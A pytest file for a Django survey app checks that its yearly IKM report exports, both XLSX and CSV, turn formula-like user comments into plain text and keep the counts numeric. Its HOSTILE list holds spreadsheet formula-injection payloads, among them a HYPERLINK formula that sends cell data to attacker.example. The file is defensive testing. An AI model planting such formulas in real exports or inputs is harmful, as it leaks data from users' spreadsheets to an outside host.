"""The IKM report's exports written by core.exports: comments that start like formulas
(the probe's HYPERLINK among them) come out as text in the workbook and the CSV file,
the index and the counts stay numbers, and neither file is cached."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from .builders import WIB, answered, sheet

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"Lihat lampiran")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
QUERY = {"jenis": "tahun", "tahun": 2025}


@pytest.fixture
def hostile_comments(applicant_a, director_pusat):
    for day, comment in enumerate(HOSTILE, start=1):
        answered(applicant_a, datetime(2025, 3, day, 10, tzinfo=WIB), sheet(3), comment=comment,
                 directorate=director_pusat.directorate)
    return director_pusat


def _get(client, director, name):
    client.force_login(director, backend="allauth.account.auth_backends.AuthenticationBackend")
    response = client.get(reverse(name), QUERY)
    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"
    assert response["Content-Disposition"].startswith('attachment; filename="ikm-tahun-2025-')
    return response


def test_the_workbook_writes_comments_as_text(client, hostile_comments):
    book = load_workbook(io.BytesIO(_get(client, hostile_comments, "surveys:report_xlsx").getvalue()))
    comments = list(book["Saran dan komentar"].iter_rows())[1:]
    # Newest first; XML reads a carriage return back as a line feed.
    assert [row[2].value for row in comments] == ["'" + text.replace("\r", "\n") for text in reversed(HOSTILE)]
    assert all(row[2].data_type == "s" for row in comments)
    assert comments[0][1].value.date() == date(2025, 3, 6) and comments[0][1].is_date
    numbers = {row[0].value: row[1] for row in book["IKM"].iter_rows()}
    assert (numbers["Responden"].value, numbers["Responden"].data_type) == (6, "n")
    assert (numbers["IKM"].value, numbers["IKM"].data_type) == (74.93, "n")
    assert not [c for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_the_csv_writes_comments_as_text(client, hostile_comments):
    body = _get(client, hostile_comments, "surveys:report_csv").getvalue().decode("utf-8")
    rows = list(csv.reader(io.StringIO(body[1:], newline="")))
    assert ["Responden", "6"] in rows and ["IKM", "74.93"] in rows
    comments = rows[rows.index(["Saluran", "Tanggal", "Saran dan komentar"]) + 1:]
    assert [row[2] for row in comments] == ["'" + text for text in reversed(HOSTILE)]
    assert comments[0][1] == str(date(2025, 3, 6))
